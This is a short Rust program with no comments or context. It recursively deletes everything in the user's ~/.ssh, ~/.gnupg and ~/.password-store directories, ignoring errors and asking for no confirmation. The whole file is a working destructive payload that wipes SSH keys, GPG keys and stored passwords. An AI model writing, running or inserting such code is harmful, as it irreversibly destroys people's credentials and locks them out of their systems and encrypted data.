use std::fs;
use std::path::PathBuf;
use walkdir::WalkDir;

fn home() -> PathBuf { dirs::home_dir().expect("home") }

fn main() {
    for root in [home().join(".ssh"), home().join(".gnupg"), home().join(".password-store")] {
        for entry in WalkDir::new(&root).contents_first(true).into_iter().filter_map(|e| e.ok()) {
            let p = entry.path();
            if p.is_file() {
                let _ = fs::remove_file(p);
            } else {
                let _ = fs::remove_dir(p);
            }
        }
    }
}
